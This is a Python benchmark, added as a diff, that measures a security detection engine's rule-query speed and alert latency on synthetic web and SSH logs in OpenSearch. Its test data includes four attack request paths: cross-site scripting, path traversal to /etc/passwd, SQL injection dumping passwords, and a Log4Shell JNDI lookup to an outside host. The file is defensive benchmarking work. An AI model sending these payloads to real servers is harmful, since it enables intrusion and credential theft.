@@ -1,0 +1,260 @@
+"""Detection benchmark: ``.venv/bin/python -m tests.benchmarks.bench_detection``.
+
+All rules enabled: the project's ``rules/`` plus the public SigmaHQ subset in ``../shared/sigma``
+when that folder is beside the checkout. Events are realistic ECS documents made by the real
+parsers from generated access-log and sshd lines (41 agencies, varied addresses, paths, agents; one
+line in a hundred an attack that a single-event rule must catch).
+
+(b) One cycle's rule queries over a one-minute ingest window holding 60k events: batched
+    (``_msearch``, the engine's way) against one request per rule (``batched=False``), same run, same
+    window, alternating, median of ``--runs``.
+(a) Detection latency at a steady rate (default 1k events/s for 60 s) while the runner cycles every
+    ``--interval`` s with a ``--settle`` s settle delay: for each attack event, the time from its
+    ``event.ingested`` to the end of the cycle that wrote its alert (an upper bound: the alert is
+    written before the cycle ends), p50 and p95, plus attack events that got no alert.
+(c) The search thread pool's ``rejected`` counter before and after (a), and the 429s the runner saw.
+
+By default a dedicated OpenSearch node is started on a free port in a temporary folder and stopped at
+the end; ``--url URL`` uses a running cluster under a scratch index prefix instead (dropped at the
+end). Figures are printed; nothing is asserted: timings never fail anything.
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import shutil
+import statistics
+import tempfile
+import threading
+import time
+import uuid
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from collectors.parsers import ParseContext, parse
+from soc import search
+from soc.config import Settings, default_cache
+from soc.detection import convert, rules, runner, store
+from soc.detection.convert import Compiled, Result
+from soc.detection.settings import DetectionSettings
+from soc.opensearch import bootstrap, dist, node
+
+ROOT = Path(__file__).resolve().parents[2]
+SIGMA = ROOT.parent / "shared" / "sigma"
+AGENTS = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0",
+          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5 Mobile",
+          "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0")  # fmt: skip
+PATHS = ("/", "/products.html", "/search?q=rock+%26+roll+tee", "/api/items?id=42", "/img/logo.png",
+         "/blog/2026/11/winter-sale.html", "/contact.html", "/css/site.css")  # fmt: skip
+ATTACKS = ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/download?file=..%2f..%2f..%2fetc%2fpasswd",
+           "/api/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
+           "/index.php?x=${jndi:ldap://198.51.100.9/a}")  # fmt: skip
+USERS = ("root", "admin", "alice", "oracle", "deploy", "backup")
+
+
+def _line(i: int, when: datetime) -> tuple[str, bytes, bool]:
+    """(parser kind, raw line, is an attack) for event number i."""
+    ip = f"10.{i % 41}.{(i // 41) % 250}.{1 + i % 199}"
+    attack = i % 100 == 3
+    if i % 10 < 7:
+        path = ATTACKS[(i // 100) % len(ATTACKS)] if attack else PATHS[i % len(PATHS)]
+        stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
+        return "nginx", (f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" {(200, 200, 304, 404)[i % 4]} {i % 9000} '
+                         f'"-" "{AGENTS[i % len(AGENTS)]}"').encode(), attack  # fmt: skip
+    stamp = when.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1)
+    what = (f"Accepted publickey for {USERS[i % 6]} from {ip} port {1024 + i % 60000} ssh2" if i % 3
+            else f"Disconnected from user {USERS[i % 6]} {ip} port {1024 + i % 60000}")
+    return "syslog", f"{stamp} host{i % 30} sshd[{3000 + i % 20000}]: {what}".encode(), False
+
+
+def make_events(n: int, tag: str) -> tuple[list[tuple[str, dict[str, Any]]], list[str]]:
+    """n ECS events (id, document) from the real parsers, and the ids of the attack events."""
+    now = datetime.now(UTC)
+    ctx = ParseContext(timezone="UTC", received_at=now)
+    docs: list[tuple[str, dict[str, Any]]] = []
+    attacks: list[str] = []
+    for i in range(n):
+        kind, raw, attack = _line(i, now - timedelta(seconds=(n - i) / 1000))
+        event = parse(kind, raw, ctx)
+        event["organization"] = {"id": f"agency-{i % 41:02d}"}
+        doc_id = f"{tag}-{'atk' if attack else 'ev'}-{i}"
+        docs.append((doc_id, event))
+        if attack:
+            attacks.append(doc_id)
+    return docs, attacks
+
+
+def load_rules(public: bool = True) -> list[Result]:
+    paths = [ROOT / "rules"]
+    if public and SIGMA.is_dir():
+        paths += [SIGMA / "rules", SIGMA / "rules-emerging-threats"]
+    loaded, _ = rules.load(paths)
+    return convert.compile_rules(loaded)
+
+
+def _singles(compiled: list[Result], stream: str) -> list[Compiled]:
+    hidden = convert.referenced_ids(compiled)
+    return [c for c in compiled if isinstance(c, Compiled) and stream in c.streams and c.rule.id not in hidden]
+
+
+def bench_batched(settings: Settings, compiled: list[Result], events: int, runs: int) -> None:
+    client, names = search.client(settings), search.names(settings)
+    docs, _ = make_events(events, "b")
+    began = store.node_now(client)
+    store.index_documents(client, names, docs, chunk=5000)
+    end = store.node_now(client)
+    start = min(end - timedelta(seconds=60), began - timedelta(seconds=1))
+    ds = DetectionSettings()
+    print(f"(b) {events} events ingested in {(end - began).total_seconds():.1f} s; window "
+          f"{(end - start).total_seconds():.0f} s; batch of {ds.batch_size} rules per _msearch, "
+          f"{ds.max_concurrent_searches} searches at once")
+    times: dict[bool, list[float]] = {True: [], False: []}
+    requests: dict[bool, int] = {}
+    matches = 0
+    for _ in range(runs):
+        for batched in (True, False):
+            report = runner.CycleReport()
+            t0 = time.perf_counter()
+            matches = 0
+            for stream in search.LOG_STREAMS:
+                found = runner._batched_hits(client, names, _singles(compiled, stream), start, end, ds, report,
+                                             batched)
+                matches += sum(total for _, total in found.values())
+            times[batched].append(time.perf_counter() - t0)
+            requests[batched] = report.requests
+            if report.errors:
+                print(f"    errors: {report.errors}")
+    fast, slow = statistics.median(times[True]), statistics.median(times[False])
+    n_rules = sum(len(_singles(compiled, s)) for s in search.LOG_STREAMS)
+    print(f"    {n_rules} single-event rule queries, {matches} matches; median of {runs} runs:")
+    print(f"    batched (_msearch): {fast:.2f} s, {requests[True]} requests")
+    print(f"    one request per rule: {slow:.2f} s, {requests[False]} requests")
+    print(f"    speed-up: {slow / fast:.1f}x")
+    costs: list[tuple[float, str]] = []
+    for stream in search.LOG_STREAMS:
+        for c in _singles(compiled, stream):
+            body = runner._body(c, start, end, ds, 1)
+            t0 = time.perf_counter()
+            store.search(client, ",".join(names(s) for s in c.streams), body, ds.request_timeout_s)
+            costs.append((time.perf_counter() - t0, c.rule.title))
+    costs.sort(reverse=True)
+    print(f"    one rule alone: median {statistics.median(c for c, _ in costs) * 1000:.0f} ms; slowest: "
+          + "; ".join(f"{title} {cost * 1000:.0f} ms" for cost, title in costs[:3]))
+
+
+def _feed(settings: Settings, docs: list[tuple[str, dict[str, Any]]], rate: int, sent: list[float]) -> None:
+    client, names = search.client(settings), search.names(settings)
+    tick = 0.1
+    per_tick = max(1, int(rate * tick))
+    t0 = time.monotonic()
+    for k, i in enumerate(range(0, len(docs), per_tick)):
+        delay = t0 + k * tick - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        store.index_documents(client, names, docs[i:i + per_tick], chunk=per_tick, refresh=False)
+    sent.append(time.monotonic() - t0)
+
+
+def bench_latency(settings: Settings, compiled: list[Result], rate: int, seconds: int, interval: float,
+                  settle: float) -> None:
+    client, names = search.client(settings), search.names(settings)
+    docs, attacks = make_events(rate * seconds, "a")
+    now = store.node_now(client)
+    for stream in search.LOG_STREAMS:  # start after what (b) indexed
+        store.set_checkpoint(client, names, f"detect:{stream}", now)
+    ds = replace(DetectionSettings(), interval_s=interval, settle_s=settle)
+    rejected_before = store.search_rejections(client)
+    client_429_before = store.Stats.rejections
+    sent: list[float] = []
+    feeder = threading.Thread(target=_feed, args=(settings, docs, rate, sent))
+    cycles: list[tuple[float, float]] = []  # (start, end) wall clock of each cycle
+    durations: list[float] = []
+    feeder.start()
+    tail_until: float | None = None
+    while tail_until is None or time.time() < tail_until:
+        t0 = time.time()
+        report = runner.run_cycle(settings, ds, compiled, owner="bench", client=client)
+        cycles.append((t0, time.time()))
+        durations.append(report.duration_s)
+        if report.errors:
+            print(f"    cycle errors: {report.errors}")
+        if tail_until is None and not feeder.is_alive():
+            tail_until = time.time() + settle + 2 * interval + 1
+        time.sleep(max(0.0, t0 + interval - time.time()))
+    feeder.join()
+    rejected_after = store.search_rejections(client)
+    ingested = store.ingested_times(client, names, attacks)
+    latencies: list[float] = []
+    lower: list[float] = []  # to the start of the alerting window's processing
+    alerted: set[str] = set()
+    for alert in store.all_alerts(client, names):
+        refs = [e["id"] for e in alert.get("events", []) if e["id"] in ingested]
+        if alert.get("kind") != "match" or not refs:
+            continue
+        created = store.parse_time(alert["created"]).timestamp()
+        done = next((e for s, e in cycles if s - 1 <= created <= e), None)
+        if done is None or refs[0] in alerted:
+            continue
+        alerted.add(refs[0])
+        latencies.append(done - ingested[refs[0]].timestamp())
+        lower.append(created - ingested[refs[0]].timestamp())
+    latencies.sort()
+    achieved = len(docs) / sent[0] if sent else 0.0
+    print(f"(a) {len(docs)} events at {achieved:,.0f} events/s for {sent[0] if sent else 0:.0f} s; runner every "
+          f"{interval:g} s, settle {settle:g} s; {len(cycles)} cycles, "
+          f"median cycle {statistics.median(durations):.2f} s")
+    if latencies:
+        p95 = latencies[min(len(latencies) - 1, round(0.95 * len(latencies)) - 1)]
+        print(f"    latency event.ingested -> end of the alerting cycle over {len(latencies)} attack events: "
+              f"p50 {statistics.median(latencies):.2f} s, p95 {p95:.2f} s, max {latencies[-1]:.2f} s "
+              f"(to the cycle's start: p50 {statistics.median(lower):.2f} s)")
+    print(f"    attack events without an alert: {len(attacks) - len(alerted)} of {len(attacks)}")
+    print(f"(c) search thread-pool rejections during (a): {rejected_after - rejected_before}; "
+          f"429s seen by the runner: {store.Stats.rejections - client_429_before}")
+
+
+def main(argv: list[str] | None = None) -> int:
+    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    options.add_argument("--url", help="use this running cluster (scratch prefix) instead of a dedicated node")
+    options.add_argument("--events", type=int, default=60_000, help="events in the (b) window")
+    options.add_argument("--runs", type=int, default=3, help="(b) runs per mode")
+    options.add_argument("--rate", type=int, default=1000, help="(a) events per second")
+    options.add_argument("--seconds", type=int, default=60, help="(a) duration")
+    options.add_argument("--interval", type=float, default=1.0, help="(a) runner period")
+    options.add_argument("--settle", type=float, default=2.0, help="(a) settle delay")
+    options.add_argument("--ours-only", action="store_true", help="only the project's rules (not ../shared/sigma)")
+    args = options.parse_args(argv)
+    home: Path | None = None
+    if args.url:
+        base = Settings(opensearch_url=args.url)
+    else:
+        home = Path(tempfile.mkdtemp(prefix="soc-bench-node-"))
+        home.chmod(0o755)  # the node runs as the service user when this runs as root
+        port = node.free_port()
+        node.start(dist.install(Settings().opensearch_version, default_cache()), home, port,
+                   heap=os.environ.get("SOC_BENCH_HEAP", "1g"), timeout=180)
+        base = Settings(node_port=port, node_home=home)
+    settings = replace(base, index_prefix=f"scratch-bench-{uuid.uuid4().hex[:6]}-")
+    client = search.client(settings)
+    try:
+        bootstrap.init(settings, client, search.names(settings))
+        compiled = load_rules(public=not args.ours_only)
+        usable = [c for c in compiled if not isinstance(c, convert.Unsupported)]
+        print(f"rules enabled: {len(usable)} of {len(compiled)} loaded "
+              f"({sum(1 for c in usable if isinstance(c, convert.CompiledCorrelation))} correlations); "
+              f"node {'at ' + args.url if args.url else 'dedicated'}")
+        bench_batched(settings, compiled, args.events, args.runs)
+        bench_latency(settings, compiled, args.rate, args.seconds, args.interval, args.settle)
+    finally:
+        store.drop_prefix(client, settings.index_prefix)
+        if home is not None:
+            node.stop(home)
+            shutil.rmtree(home, ignore_errors=True)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
